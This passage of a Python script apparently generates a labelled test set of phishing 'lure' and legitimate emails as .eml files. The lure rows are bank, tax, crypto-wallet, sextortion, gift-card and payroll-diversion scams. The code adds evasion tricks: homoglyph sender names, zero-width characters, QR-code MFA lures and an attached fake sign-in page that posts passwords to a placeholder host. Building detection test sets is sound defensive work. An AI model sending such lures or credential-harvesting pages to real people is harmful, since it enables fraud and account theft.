Commerzbank | photo@{r}.example | photoTAN Aktualisierung | Ihr Zugang wird eingeschränkt, wenn Sie die photoTAN nicht bis heute aktualisieren. | Aktualisieren | D |
Bank of America | alerts@gardenworks.example | Your card ending 8841 was locked | Charges of $812.40 looked suspicious. Confirm them to unlock your card. | Review charges | N |
HMRC | refund@{r}.example | You are due a refund of £322.18 | Submit your claim before the deadline to receive the payment. | Claim refund | S hmrc-refund |
France Travail | conseil@{r}.example | Actualisation : allocation bloquée | Votre allocation est bloquée. Confirmez votre identité pour recevoir le paiement. | Confirmer mon identité | P |
CAF | info@loc-materiel.example | Trop-perçu à rembourser | Votre dossier fait apparaître un rappel de 318 € à vous verser. Complétez vos informations. | Compléter | F |
Disney+ | bill@{r}.example | Your subscription ends tonight | We could not renew your plan. Update your payment method to continue watching. | Update payment | T |
Prime | m@{r}.example | Renouvellement Prime refusé | Votre moyen de paiement a été refusé. Mettez-le à jour pour garder vos avantages. | Mettre à jour | A |
Best Deals | s@{r}.example | Your purchase of Bitcoin 0.03 BTC is complete | $1,140 was charged to your PayPal. If not you, dial 1 (833) 555-0177 for a refund. | | x | t
McAfee Billing | b{n}@gmail.com | Order {n}11 processed | Thank you. Total security 5 PC renewed, $429.00 debited. Need help or cancel? Call +1 (877) 555-0190. | | x | t
Claire Moreau | claire.moreau{n}@gmail.com | Urgent | Bonjour Anna, pouvez-vous acheter pour moi 5 cartes Transcash de 200 € et m'envoyer les codes par mail ? Je vous rembourse ce soir. | | x | t
Philippe Caron | p.caron{n}@outlook.com | Changement de RIB | Bonjour, j'ai changé de banque. Merci de verser mon prochain salaire sur mon nouveau RIB ci-dessous. | | x | t
Hacker team | {r}@{r}.example | Vous avez été piraté | J'ai installé un cheval de Troie et j'ai une vidéo de vous sur des sites pour adultes. Envoyez 700 € en Bitcoin à 1BoatSLRHtKNngkdXEeobR76b53LETtpyT. | | x | t
Foundation | grant{n}@outlook.com | Don de 1.500.000 euros | Je suis une femme mourante et souhaite vous faire un don de 1,5 million d'euros. Répondez-moi en privé. | | x | t
Meta Support | p@{r}.example | Ad account disabled | Your ad account violated our policies and will be deleted. Submit an appeal. | Submit appeal | P |
X Corp | x@{r}.example | Password changed from Lagos | Your password was changed. If this was not you, secure your account now. | Secure account | S x-login |
Kraken | k@{r}.example | Your funds are frozen | Complete verification to unfreeze your funds. | Verify now | F |
Phantom | p@{r}.example | Wallet sync required | Sync your wallet with your secret phrase to avoid loss of tokens. | Sync wallet | P |
Proton | a@{r}.example | Account deletion scheduled | The account {to} will be deleted for inactivity. Keep it by signing in. | Keep my account | H |
Infomaniak | h@{r}.example | Facture impayée, hébergement suspendu | Sans règlement de 4,80 € votre hébergement sera suspendu demain. | Régler | W |
Benefits team | hr@kessler-dach.example | Open enrollment closes today | All employees must confirm their benefits today. Sign in with your company account. | Confirm benefits | A |
Canon Scanner | copier@{r}.example | Scan_{n}.pdf | You have received a scan of 4 pages. Download it before it is deleted. | Download scan | I |
IT Security | sec@{r}.example | Multi-factor update | Your MFA registration expires today. Scan the code with your phone to renew it. | | Q | q
Payments | pay@gardenworks.example | ACH payment advice | The payment advice is attached. Open with your email password. | | x | h
E-Fax | f@{r}.example | Fax from 0155 | View the fax of three pages. | View fax | W | z
Cadeau Carrefour | c@{r}.example | Dernière chance | | Image | A | i
Temu | t@{r}.example | You won a mystery box | Congratulations! Claim your mystery box, pay only shipping. | Claim my box | B |
Netfliх Suppоrt | n@{r}.example | Yоur membеrship еxpired | Renew tоday tо keep watching. | Rеnew | D | c
Ulys | peage@{r}.example | Péage impayé 3,60 € | Votre passage n'a pas été réglé. Payez sous 72 h pour éviter une majoration. | Payer | S ulys-peage |
""".strip().splitlines()
HONEST_C = r"""
Epicerie du Port | bonjour@epicerie-port.example | Votre commande est prête | Bonjour Anna, votre commande 771 vous attend au magasin jusqu'à samedi. | Voir la commande>https://epicerie-port.example/commandes/771 |
Ville de Kervil | espace-citoyen@mairie-kervil.example | Votre facture de cantine | Bonjour, la facture de cantine d'octobre (42,50 €) est disponible. Payez avant le 30 pour éviter une relance. | Payer en ligne>https://espace-citoyen.mairie-kervil.example/factures/{r} |
Le Monde | abonnement@lemonde.fr | Votre abonnement a été renouvelé | Votre abonnement est renouvelé pour un mois. | Mon compte>https://moncompte.lemonde.fr/{r} |
UPS | mcinfo@ups.com | UPS Ship Notification | Your package from Buchladen Wolf is on its way. Scheduled delivery: Thursday. | Track>https://www.ups.com/track?tracknum={r} |
DPD | noreply@dpd.fr | Votre colis est livré | Votre colis a été livré à votre voisin. | Détails>https://trace.dpd.fr/fr/trace/{r} |
Crédit Mutuel | noreply@creditmutuel.fr | Nouveau document | Un nouveau relevé est disponible dans votre espace. | Espace client>https://www.creditmutuel.fr/ |
N26 | noreply@n26.com | You received 50.00 EUR | Tom sent you 50.00 EUR. | Open N26>https://app.n26.com/{r} |
American Express | alertes@welcome.americanexpress.com | Alerte de paiement | Un paiement de 41,20 € a été effectué avec votre carte. Si ce n'est pas vous, appelez le numéro au dos de votre carte. | Mes opérations>https://www.americanexpress.com/fr-fr/account/{r} |
Discord | noreply@discord.com | Verify email address | Verify your email to finish signing up. | Verify Email>https://click.discord.com/ls/click?upn={r}{r} |
Figma | no-reply@figma.com | Tom invited you to "Affiches" | Tom invited you to edit a file. | Open in Figma>https://www.figma.com/file/{r} |
GitLab | gitlab@mg.gitlab.com | Pipeline failed for main | Pipeline 8841 has failed. | View pipeline>https://gitlab.com/kervil/site/-/pipelines/{n} |
Confluence | confluence@parti-bleu.atlassian.net | Tom edited "Budget" | Tom edited a page. | View page>https://parti-bleu.atlassian.net/wiki/spaces/B/{r} |
Factorial | no-reply@factorialhr.com | Document à signer : avenant | Votre responsable vous a envoyé un document à signer. | Signer>https://app.factorialhr.com/documents/{r} |
Malt | notifications@malt.com | Nouvelle facture reçue | Tom Weber vous a envoyé une facture de 640 €. | Voir>https://www.malt.fr/invoices/{r} |
Yousign | no-reply@yousign.app | Signature demandée : bail | Agence du Port vous invite à signer le bail. | Accéder au document>https://yousign.app/signatures/{r} |
Agence du Port | location@agence-port.example | Quittance de loyer | Bonjour, veuillez trouver ci-joint votre quittance de loyer. | | p
Wordpress de la Liste | wordpress@liste-citoyenne.example | [Liste] Password Reset | Someone has requested a password reset for the following account: anna. If this was a mistake, ignore this email. | https://liste-citoyenne.example/wp-login.php?action=rp&key={r}>https://liste-citoyenne.example/wp-login.php?action=rp&key={r} | t
Sympa | sympa@listes.mairie-kervil.example | Confirmez votre abonnement à quartier-nord | Répondez à ce message ou cliquez pour confirmer votre abonnement à la liste. | https://listes.mairie-kervil.example/sympa/ticket/{r}>https://listes.mairie-kervil.example/sympa/ticket/{r} | t
Mailman | quartier-owner@listes.example | 3 modération: requests waiting | The list has 3 messages waiting for your approval. | https://listes.example/admindb/quartier>https://listes.example/admindb/quartier | tl
Strava | no-reply@strava.com | Your week | You ran 21 km this week. | See>https://www.strava.com/training/{r} |
Deezer | info@deezer.com | Votre paiement a échoué | Nous n'avons pas pu prélever votre abonnement. Mettez à jour votre moyen de paiement dans votre compte. | Mettre à jour>https://www.deezer.com/account/subscription |
OpenAI | noreply@tm.openai.com | Your code is 118204 | Enter this code to continue. If you did not request it, reset your password. | Reset>https://chat.openai.com/auth/reset |
Twitch | no-reply@twitch.tv | New login from Brest | A new login to your account from Firefox. | Review>https://www.twitch.tv/settings/security |
Caisse des Écoles | caisse@ecole-kervil.example | Rappel : cotisation | Votre cotisation de 15 € n'a pas été réglée. Merci de la régler avant la fin du mois. | |
Sarah Caron | sarah.caron.photo@gmail.com | Facture du reportage | Bonjour Anna, voici ma facture pour le reportage, mon RIB est dessus. Bonne journée, Sarah | | p
Jules Rey | jules.rey@liste-citoyenne.example | Fwd: programme | Regarde la page 3, c'est urgent, je dois l'envoyer à l'imprimeur ce soir. | https://nuage.liste-citoyenne.example/s/{r}>https://nuage.liste-citoyenne.example/s/{r} | t
Inès Caron | ines.caron@mairie-kervil.example | Es-tu disponible jeudi ? | Salut, es-tu disponible jeudi à 18 h pour la réunion du bureau ? | | t
Cinéma Le Port | cine@cinema-port.example | Gagnez des places ! | Répondez à notre quiz et gagnez deux places pour samedi. | Jouer>https://cinema-port.example/quiz |
Darty | commande@darty.com | Confirmation de livraison | Votre lave-linge sera livré vendredi. | Suivre>https://www.darty.com/suivi/{r} |
Uber | noreply@uber.com | Your Tuesday trip | Thanks for riding. Total 14,20 €. | Receipt>https://riders.uber.com/trips/{r} |
Pôle Santé | rdv@pole-sante-kervil.example | Confirmation de rendez-vous | Votre rendez-vous du 14 à 10h est confirmé. Cliquez pour l'annuler. | Annuler>https://pole-sante-kervil.example/rdv/{r} |
Jetbrains | sales@jetbrains.com | Your license expires in 30 days | Renew your license to keep receiving updates. | Renew>https://account.jetbrains.com/licenses/{r} |
Zendesk via Ferme | support@fermeadour.zendesk.com | [Ferme de l'Adour] Re: panier | Your request (118) has been updated. Reply to this email to add comments. | |
SurveyMonkey | noreply@surveymonkey.com | Enquête sur les transports | La mairie de Kervil vous invite à répondre à une enquête. | Commencer>https://fr.surveymonkey.com/r/{r} |
Framaforms | ne-pas-repondre@framaforms.org | Nouvelle réponse à votre formulaire | Une nouvelle réponse est arrivée. | Voir>https://framaforms.org/node/{n}/submission |
Kleinanzeigen | noreply@kleinanzeigen.de | Nutzer-Anfrage zu deiner Anzeige | Ist das Rad noch da? Antworte direkt auf diese Nachricht. | Antworten>https://www.kleinanzeigen.de/m-nachrichten.html?{r} |
""".strip().splitlines()
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
PAGE = "<html><body><h2>Sign in to continue</h2><form action='https://{r}.example/p.php' method=post><input name=e value='{to}'><input type=password name=p><button>Sign in</button></form></body></html>"
PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
r = lambda n=7: "".join(R.choice("bcdfghjklmnpqrstvwxz0123456789") for _ in range(n))
def qr():
    """A QR code by `qrencode` where it is installed, else a picture without one."""
    import subprocess
    try: return subprocess.run(["qrencode", "-s", "4", "-o", "-", f"https://{r()}.example/mfa"], capture_output=True, check=True).stdout
    except Exception: return PNG
def build(name, address, subject, text, links, options, to):
    m = EmailMessage()
    m["From"] = f'"{name}" <{address}>'; m["To"] = f"{to[0]} <{to[1]}>"; m["Subject"] = subject
    m["Date"] = f"{R.randint(3, 28)} Nov 2025 {R.randint(8, 19)}:{R.randint(10, 59)}:07 +0100"
    m["Message-ID"] = f"<{r(14)}@{address.split('@')[1]}>"
    if "l" in options: m["List-Post"] = "<mailto:debian-user@lists.example>"; m["References"] = "<1@x.example>"
    plain = text.replace("\\n", "\n") + "".join("\n" + (u if t == u else f"{t}: {u}") for t, u in links)
    if "t" in options: m.set_content(plain)
    else:
        shown = text
        if "z" in options: shown = re.sub(r"(\w{3})(\w{2})", "\\1\u200b\\2", shown)
        anchors = "".join(f'<p><a href="{u}" style="background:#06c;color:#fff;padding:9px">{t}</a></p>' for t, u in links)
        if "i" in options and links: anchors, shown = f'<a href="{links[0][1]}"><img src="https://{r()}.example/a.jpg" width=600></a>', ""
        if "q" in options: anchors = '<img src="cid:q">'
        m.set_content(f"<html><body style='font-family:Arial'><p>{shown}</p>{anchors}<p style='color:#888;font-size:11px'>{name}, {subject}</p></body></html>", subtype="html", cte="base64" if "b" in options else None)
        if "q" in options: m.add_related(qr(), "image", "png", cid="<q>")
    if "h" in options: m.add_attachment(PAGE.replace("{r}", r()).replace("{to}", to[1]).encode(), maintype="text", subtype="html", filename="Secure_Message.html")
    if "p" in options: m.add_attachment(PDF, maintype="application", subtype="pdf", filename="document.pdf")
    if "c" in options and "invite" in text: m.add_attachment(b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Bureau\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n", maintype="text", subtype="calendar", filename="invite.ics")
    return m
def main(out):
    for label, rows, parts in (("lure", LURES, "ab"), ("honest", HONEST, "ab"), ("lure", LURES_C, "cc"), ("honest", HONEST_C, "cc")):
        for i, row in enumerate(rows):
            f = [x.strip() for x in row.split("|")]
            for k in range(2):
                to, n, rr = R.choice(TO), str(R.randint(10, 98)), r()
                fill = lambda s: s.replace("{to}", to[1]).replace("{n}", n).replace("{r}", rr)
                if label == "lure":
                    site, _, host = (f[5] if len(f) > 5 else "x").partition(" ")
                    url = SITES.get(site, "").replace("{s}", host or "x").replace("{r}", r()).replace("{to}", to[1]).replace("{n}", n).replace("{b}", base64.b64encode(to[1].encode()).decode())
                    links, options = ([(fill(f[4]), url)] if url else []), (f[6] if len(f) > 6 else "") + (f[5] if f[5] in "t" else "")
                else:
                    pairs = [p.strip().split(">") for p in f[4].split(";") if ">" in p] if len(f) > 4 else []
                    links, options = [(fill(t), fill(u)) for t, u in pairs], f[5] if len(f) > 5 else ""
                m = build(fill(f[0]), fill(f[1]), fill(f[2]), fill(f[3]), links, options, to)
                folder = f"{out}/{label}-{parts[i % 2]}"
                os.makedirs(folder, exist_ok=True)
                open(f"{folder}/{i:03}{'xy'[k]}.eml", "wb").write(m.as_bytes())
if __name__ == "__main__": main(sys.argv[1])
